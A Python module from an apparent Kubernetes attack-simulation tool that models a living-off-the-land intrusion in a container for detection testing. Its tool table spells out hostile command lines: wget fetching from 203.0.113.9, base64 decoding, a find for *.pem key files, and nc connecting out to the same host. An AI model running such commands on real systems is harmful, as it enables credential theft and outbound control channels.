"""Somebody works with what the image has: a busybox shell, its wget, base64 and nc, one after the other."""

from __future__ import annotations

from kubestray.simulate.attacks.scene import Kind, Scene
from kubestray.simulate.catalog import Program
from kubestray.simulate.labels import Attack
from kubestray.simulate.noise import between, key
from kubestray.simulate.stage import Footprint

_SHELL = Program("ash", "/bin/busybox", "ash", "1000", 0.001, 1.1, (20.0, 0.0), 1)
_TOOLS = (
    Program("wget", "/bin/busybox", "wget -q -O - 203.0.113.9", "1000", 0.01, 2, (0.0, 900.0), 1),
    Program("base64", "/bin/busybox", "base64 -d", "1000", 0.01, 1, (0.0, 400.0), 1),
    Program("find", "/bin/busybox", "find / -name *.pem", "1000", 0.05, 2, (900.0, 0.0), 1),
    Program("nc", "/bin/busybox", "nc 203.0.113.9 443", "1000", 0.002, 1, (0.0, 0.0), 1),
)


def plan(scene: Scene) -> Footprint:
    """Return the footprint; the size is in tools besides the shell."""
    started = [scene.intruder(_SHELL)]
    at = scene.begin
    for number in range(max(round(scene.size), 0)):
        at += int(between(key(scene.own, "pause", number), 60, 150))
        used = _TOOLS[number % len(_TOOLS)]
        started.append(scene.intruder(used, at, at + int(between(key(scene.own, "for", number), 25, 55))))
    step = scene.step(LOTL_SHELL.techniques, float(len(started)), "{processes}", _SHELL.name)
    return Footprint(attacks=(Attack(scene.name, (step,)),), intruders=tuple(started))


LOTL_SHELL = Kind(
    "A shell in a container, with the tools of its image.",
    ("T1059.004",), "tools", 0.0, (3.0, 6.0), plan,
)  # fmt: skip
